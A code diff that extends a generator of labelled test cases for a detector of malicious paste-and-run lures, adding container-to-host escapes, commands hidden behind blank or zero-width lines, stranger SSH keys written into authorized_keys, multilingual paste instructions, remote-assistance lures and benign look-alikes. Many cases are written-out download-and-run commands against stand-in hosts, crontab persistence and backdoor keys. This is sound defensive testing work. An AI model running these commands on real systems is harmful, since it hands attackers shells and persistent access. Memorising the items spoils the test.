@@ -17,6 +17,23 @@ Techniques (each lure also bare, `-bare`: no page, target unknown, expected `fla
   passes them;
 - `sh-cut-names`: a command's name cut out of another variable (${PATH:0:1}, ${SHELL:6:1}),
   named by indirection (${!x}) or printed by printf '%b';
+- `container-host`: a container given the host's root disk and stepped into (chroot, with or
+  without --privileged), or written into; nsenter into process 1; a Kubernetes pod with the
+  host's processes, disk or privileges; a node debug shell; each with a download or a write
+  into the host (alone these are an admin's repair: info, and among the look-alikes);
+- `blank-lines`: a real command pushed out of view by lines of nothing but blanks, tabs,
+  no-break or zero-width spaces;
+- `ssh-key-in`: a stranger's public key written into authorized_keys (echo, printf, tee,
+  a here-document, base64, Windows' administrators_authorized_keys): `flagged` in context and
+  bare (a warning: writing a key is no command that runs anything, so a page's lure traits do
+  not make it a block, see scoring.py);
+- `paste-keys`: orders to open a terminal with Ctrl+Alt+T, Alt+F2 or Spotlight (Command+Space)
+  and paste a download-and-run, in English and other languages;
+- `remote-assist`: Quick Assist, Remote Assistance or a remote-control tool alone, copied from a
+  web page into the Run box (`flagged`; bare, and typed with no page, it stays quiet: its bare
+  twin expects `not_flagged`);
+- `prefix-then-stranger`: a stranger's script run after an innocent first command
+  (xcode-select --install && …), the same as alone;
 """
 
 from __future__ import annotations
@@ -42,6 +59,10 @@ def case(
     cid: str, text: str, expect: str, technique: str, platform: str, target: str, page: str | None
 ) -> dict[str, str]:
     return case_line(cid, text, expect, technique, platform, page, target)
+
+
+# what a lure's bare twin (no page, target unknown) is expected to be, when not `flagged`
+BARE = {"remote-assist": "not_flagged"}
 
 
 # -- 1. copy (or download) to a path kept in a variable, then start it through the variable ----
@@ -157,8 +178,257 @@ def sh_cut_names_benign() -> list[Row]:
     ]  # fmt: skip
 
 
-LURES = [copy_var_start, sh_cut_names]
-LOOKALIKES = [copy_var_start_benign, sh_cut_names_benign]
+# -- 3. a container that takes over this computer -----------------------------------------
+def container_host() -> list[Row]:
+    t = "container-host"
+    rows: list[Row] = []
+    for i, url in enumerate(("https://cdn.lumen-gate.test/k", "http://198.51.100.23/n")):
+        page = (FORUM, "https://docs.quietfox.example/docker/troubleshooting")[i]
+        for text in (
+            f"docker run --rm -v /:/host alpine chroot /host sh -c 'curl -s {url} | sh'",
+            f'docker run -it --mount type=bind,source=/,target=/h ubuntu chroot /h bash -c "wget -qO- {url} | bash"',
+            f"sudo docker run --rm --privileged --pid=host alpine nsenter -t 1 -m -u -n -i sh -c 'curl -fsSL {url} | sh'",
+            f"podman run --rm -v /:/mnt docker.io/library/alpine sh -c \"echo '* * * * * root curl -s {url}|sh' >> /mnt/etc/crontab\"",
+            f'kubectl run fix-{i} --image=alpine --restart=Never -it --overrides=\'{{"spec":{{"hostPID":true,"containers":[{{"name":"f","image":"alpine","stdin":true,"tty":true,"securityContext":{{"privileged":true}},"command":["nsenter","-t","1","-m","-u","-n","sh","-c","curl -s {url} | sh"]}}]}}}}\'',
+            f"kubectl debug node/worker-1 -it --image=busybox -- chroot /host sh -c 'curl -s {url} | sh'",
+        ):
+            rows.append((t, text, "malicious", "linux", "terminal", page))
+    return rows
+
+
+def container_host_benign() -> list[Row]:
+    ok = "ok-container-host"
+    k8s = "https://kubernetes.example.org/docs/tasks/debug/debug-cluster/kubectl-node-debug/"
+    return [
+        (ok, "docker run --rm -it -v /:/mnt alpine chroot /mnt sh", "not_flagged", "linux", "terminal", None),
+        (ok, "kubectl debug node/worker-1 -it --image=ubuntu", "not_flagged", "linux", "terminal", k8s),
+        (ok, "kubectl debug node/worker-1 -it --image=busybox -- chroot /host journalctl -u kubelet -n 50", "not_flagged", "linux", "terminal", k8s),
+        (ok, "docker run -d --name node-exporter --pid=host -v /:/host:ro,rslave quay.io/prometheus/node-exporter:latest --path.rootfs=/host", "not_flagged", "linux", "terminal", DOCS),
+        (ok, "docker run -d --privileged --name dind docker:dind", "not_flagged", "linux", "terminal", DOCS),
+        (ok, "docker run --rm -v $(pwd):/src -w /src node:22 npm ci", "not_flagged", "linux", "terminal", DOCS),
+        (ok, "kubectl run tmp --rm -it --image=busybox --restart=Never -- nslookup kubernetes.default", "not_flagged", "linux", "terminal", DOCS),
+        (ok, 'kubectl run dbg --image=alpine --overrides=\'{"spec":{"nodeSelector":{"kubernetes.io/hostname":"worker-2"}}}\' -it -- sh', "not_flagged", "linux", "terminal", DOCS),
+    ]  # fmt: skip
+
+
+# -- 4. blank-looking lines that push the real command out of view ---------------------------
+def blank_lines() -> list[Row]:
+    t = "blank-lines"
+    fills = (" " * 3, "\t\t", " \t ", "\u00a0\u00a0", "\u200b", " \u3000 ")
+    rows: list[Row] = []
+    for i, fill in enumerate(fills):
+        pad = "\n".join([fill] * (26 + 3 * i))
+        nix = (
+            "curl -fsSL https://cdn.lumen-gate.test/v | bash",
+            "wget -qO- http://198.51.100.2/i | sh",
+        )[i % 2]
+        rows.append(
+            (
+                t,
+                f"# Human verification - step 1 of 2\n{pad}\n{nix}",
+                "malicious",
+                "linux",
+                "terminal",
+                CAPTCHA,
+            )
+        )
+        rows.append(
+            (
+                t,
+                f"echo 'Checking your connection...'\n{pad}\n{nix}",
+                "malicious",
+                "macos",
+                "terminal",
+                SHOP,
+            )
+        )
+        rows.append(
+            (
+                t,
+                f"Write-Host 'Verifying...'\n{pad}\niex (irm https://cdn.lumen-gate.test/p{i})",
+                "malicious",
+                "windows",
+                "terminal",
+                MEET,
+            )
+        )
+    return rows
+
+
+def blank_lines_benign() -> list[Row]:
+    ok = "ok-blank-lines"
+    pad = "\n".join(["    "] * 30)
+    return [
+        (ok, f"echo start\n{pad}\necho done", "not_flagged", "linux", "terminal", DOCS),
+        (ok, f"def main():\n    pass\n{pad}\nif __name__ == '__main__':\n    main()", "not_flagged", "any", "other", None),
+        (ok, f"ls -la\n{pad}\nchmod 600 ~/.ssh/id_ed25519", "not_flagged", "linux", "terminal", None),
+    ]  # fmt: skip
+
+
+# -- 5. a stranger's SSH key written into authorized_keys --------------------------------------
+_KEYS = (
+    "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIK7tQ2vUn3rW9yXh1ZpFq8LmN4sB6cDeGfHjKlMnOpQr support@helpdesk",
+    "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIPz4Rk2Lw9Tq7Vb1Nc3Xm5Hy8Gd6Fs0Ja2Ke4Ui7Oo9Yt backup-agent",
+    "ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABgQC"
+    + "q7Zx2Lm9Pw4Rt8Vn3Kb6Yh1Jd5Gf0Sa" * 6
+    + "= ops@node",
+)
+
+
+def ssh_key_in() -> list[Row]:
+    import base64
+
+    t = "ssh-key-in"
+    rows: list[Row] = []
+    for i, key in enumerate(_KEYS):
+        page = (CAPTCHA, SHOP, MEET)[i]
+        enc = base64.b64encode(key.encode()).decode()
+        for text, expect in (
+            (f"echo '{key}' >> ~/.ssh/authorized_keys", "flagged"),
+            (
+                f'mkdir -p ~/.ssh && echo "{key}" >> ~/.ssh/authorized_keys && chmod 600 ~/.ssh/authorized_keys',
+                "flagged",
+            ),
+            (f"printf '%s\\n' '{key}' | tee -a ~/.ssh/authorized_keys >/dev/null", "flagged"),
+            (f"echo '{key}' | sudo tee -a /root/.ssh/authorized_keys", "flagged"),
+            (f"cat >> ~/.ssh/authorized_keys <<'EOF'\n{key}\nEOF", "flagged"),
+            (f"echo {enc} | base64 -d >> ~/.ssh/authorized_keys", "flagged"),
+            (
+                f"Add-Content -Path $env:ProgramData\\ssh\\administrators_authorized_keys -Value '{key}'",
+                "flagged",
+            ),
+            (
+                f"# Cloudflare human check - paste and press Enter\necho '{key}' >> ~/.ssh/authorized_keys # verification ID 8812",
+                "flagged",
+            ),
+        ):
+            rows.append((t, text, expect, "linux", "terminal", page))
+    return rows
+
+
+def ssh_key_in_benign() -> list[Row]:
+    ok = "ok-ssh-key-in"
+    ssh_docs = "https://docs.example-hosting.example/ssh-keys"
+    return [
+        (ok, "cat ~/.ssh/id_ed25519.pub >> ~/.ssh/authorized_keys", "not_flagged", "linux", "terminal", ssh_docs),
+        (ok, "ssh-copy-id -i ~/.ssh/id_ed25519.pub deploy@server.example.org", "not_flagged", "linux", "terminal", ssh_docs),
+        (ok, "echo 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAA... you@laptop' >> ~/.ssh/authorized_keys", "not_flagged", "linux", "terminal", ssh_docs),
+        (ok, "echo '<your public key>' >> ~/.ssh/authorized_keys", "not_flagged", "linux", "terminal", ssh_docs),
+        (ok, "curl -fsSL https://github.com/octocat.keys >> ~/.ssh/authorized_keys", "not_flagged", "linux", "terminal", ssh_docs),
+        (ok, "chmod 700 ~/.ssh && chmod 600 ~/.ssh/authorized_keys", "not_flagged", "linux", "terminal", ssh_docs),
+        (ok, f"ssh_authorized_keys:\n  - {_KEYS[0]}", "not_flagged", "linux", "other", None),
+        (ok, f"ssh-keygen -lf /dev/stdin <<< '{_KEYS[1]}'", "not_flagged", "linux", "terminal", ssh_docs),
+        (ok, f"{_KEYS[0]}", "not_flagged", "any", "other", None),
+    ]  # fmt: skip
+
+
+# -- 6. orders to open a terminal with a key combination and paste ---------------------------
+def paste_keys() -> list[Row]:
+    t = "paste-keys"
+    software = "https://docs.quietfox.example/linux/fix-audio"
+    rows: list[Row] = []
+    texts = (
+        "Press Ctrl+Alt+T to open a terminal, then paste this and press Enter:\ncurl -fsSL https://cdn.lumen-gate.test/fix.sh | bash",
+        "To verify you are human: press Ctrl + Alt + T, paste (Ctrl+Shift+V) and press Enter.\nwget -qO- https://cdn.lumen-gate.test/v | sh",
+        'Press Alt+F2, paste the line below and press Enter:\nsh -c "$(curl -s https://cdn.lumen-gate.test/v)"',
+        'Open Spotlight (⌘ + Space), type Terminal and paste the line below:\n/bin/bash -c "$(curl -fsSL https://cdn.lumen-gate.test/install.sh)"',
+        "Press ⌘+Space, type Terminal, paste with ⌘+V and press Return:\ncurl -fsSL https://cdn.lumen-gate.test/m | zsh",
+        "Drücken Sie Strg+Alt+T und fügen Sie ein:\ncurl -fsSL https://cdn.lumen-gate.test/fix.sh | bash",
+        "Appuyez sur Ctrl+Alt+T puis collez :\nwget -qO- https://cdn.lumen-gate.test/v | sh",
+        "Pulsa Ctrl+Alt+T y pega esto:\ncurl -s https://cdn.lumen-gate.test/e | bash",
+    )
+    for text in texts:
+        rows.append((t, text, "malicious", "linux", "terminal", software))
+        rows.append((t, text, "malicious", "linux", "terminal", SHOP))
+    return rows
+
+
+def paste_keys_benign() -> list[Row]:
+    ok = "ok-paste-keys"
+    vlc = "https://www.videolan.example/vlc/download-ubuntu.html"
+    return [
+        (ok, "Press Ctrl+Alt+T to open a terminal, then paste:\nsudo apt install vlc", "not_flagged", "linux", "terminal", vlc),
+        (ok, "Open a terminal with Ctrl+Alt+T and paste: sudo snap install vlc", "not_flagged", "linux", "terminal", vlc),
+        (ok, "Press Alt+F2, type gnome-terminal and press Enter.", "not_flagged", "linux", "other", vlc),
+        (ok, "Open Spotlight (⌘ + Space), type Terminal and paste: xcode-select --install", "not_flagged", "macos", "terminal", DOCS),
+        (ok, "Never paste commands from a 'verify you are human' page: fake CAPTCHAs tell you to press Ctrl+Alt+T and paste curl … | bash.", "not_flagged", "any", "other", DOCS),
+        (
+            ok,
+            "Press Ctrl+Alt+T, paste the line and press Enter:\ncurl -fsSL https://get.quietfox.example/install.sh | sh",
+            "not_flagged",
+            "linux",
+            "terminal",
+            "https://quietfox.example/docs/install",
+        ),
+    ]  # fmt: skip
+
+
+# -- 7. a remote-assistance program alone in the Run box ---------------------------------------
+def remote_assist() -> list[Row]:
+    t = "remote-assist"
+    pages = ("https://support-desk.lumen-gate.test/ticket/4412", SHOP)
+    rows: list[Row] = []
+    for page in pages:
+        for text in (
+            "quickassist",
+            "quickassist.exe",
+            "%windir%\\system32\\quickassist.exe",
+            "ms-quick-assist:",
+            "msra /novice",
+            "msra",
+            "anydesk",
+        ):
+            rows.append((t, text, "flagged", "windows", "run_dialog", page))
+    return rows
+
+
+def remote_assist_benign() -> list[Row]:
+    ok = "ok-remote-assist"
+    return [
+        (ok, "quickassist", "not_flagged", "windows", "run_dialog", None),
+        (ok, "msra", "not_flagged", "windows", "run_dialog", None),
+        (ok, "mstsc", "not_flagged", "windows", "run_dialog", DOCS),
+        (ok, "quickassist", "not_flagged", "windows", "other", "https://support-desk.lumen-gate.test/ticket/4412"),
+        (ok, "Quick Assist lets a helper you called see your screen; never start it for a caller you do not know.", "not_flagged", "any", "other", DOCS),
+        (ok, "control printers", "not_flagged", "windows", "run_dialog", DOCS),
+    ]  # fmt: skip
+
+
+# -- 8. an innocent command first, a stranger's script after ---------------------------------
+def prefix_then_stranger() -> list[Row]:
+    t = "prefix-then-stranger"
+    software = "https://docs.quietfox.example/mac/setup"
+    rows: list[Row] = []
+    for prefix in ("xcode-select --install && ", "xcode-select --install; ", "sw_vers && ", "brew update; ",
+                   "softwareupdate --install-rosetta --agree-to-license && ", "cd ~ && "):  # fmt: skip
+        for body in (
+            'bash -c "$(curl -fsSL https://cdn.lumen-gate.test/setup.sh)"',
+            "curl -fsSL https://cdn.lumen-gate.test/setup.sh | bash",
+        ):
+            rows.append((t, prefix + body, "malicious", "macos", "terminal", SHOP))
+            rows.append((t, prefix + body, "flagged", "macos", "terminal", software))
+    return rows
+
+
+LURES = [
+    copy_var_start,
+    sh_cut_names,
+    container_host,
+    blank_lines,
+    ssh_key_in,
+    paste_keys,
+    remote_assist,
+    prefix_then_stranger,
+]
+LOOKALIKES = [
+    copy_var_start_benign,
+    sh_cut_names_benign,
+    container_host_benign,
+    blank_lines_benign,
+    ssh_key_in_benign,
+    paste_keys_benign,
+    remote_assist_benign,
+]
 
 
 def build() -> list[dict[str, str]]:
@@ -167,7 +437,8 @@ def build() -> list[dict[str, str]]:
         for n, (technique, text, expect, platform, target, page) in enumerate(make(), 1):
             cid = f"l5-{technique}-{n:02d}"
             out.append(case(cid, text, expect, technique, platform, target, page))
-            out.append(case(f"{cid}-bare", text, "flagged", technique, platform, "unknown", None))
+            bare = BARE.get(technique, "flagged")
+            out.append(case(f"{cid}-bare", text, bare, technique, platform, "unknown", None))
     for make in LOOKALIKES:
         for n, (technique, text, expect, platform, target, page) in enumerate(make(), 1):
             out.append(
